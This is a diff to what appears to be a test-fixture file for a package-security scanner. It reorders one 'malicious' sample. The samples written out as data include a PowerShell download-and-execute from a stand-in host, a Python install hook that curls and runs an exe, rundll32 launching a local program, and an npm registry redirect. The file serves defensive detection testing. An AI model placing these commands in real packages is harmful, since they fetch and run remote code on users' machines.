@@ -10,14 +10,6 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
-      name: 'a library of its own that Windows is made to load, and a program that it opens like a link',
-      files: hooked('rundll32 dist/core.dll,Start && rundll32 url.dll,FileProtocolHandler "C:/own/a.exe"'),
-      expected: [
-        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
-        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
-      ],
-    },
-    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -218,6 +210,14 @@ export const samples: Samples = {
       name: 'a registry for all that follows',
       files: hooked('npm config set registry https://a.weir.test/npm'),
       expected: [at('foreign-registry', 'high')],
+    },
+    {
+      name: 'a library of its own that Windows is made to load, and a program that it opens like a link',
+      files: hooked('rundll32 dist/core.dll,Start && rundll32 url.dll,FileProtocolHandler "C:/own/a.exe"'),
+      expected: [
+        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
+        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
+      ],
     },
   ],
   benign: [
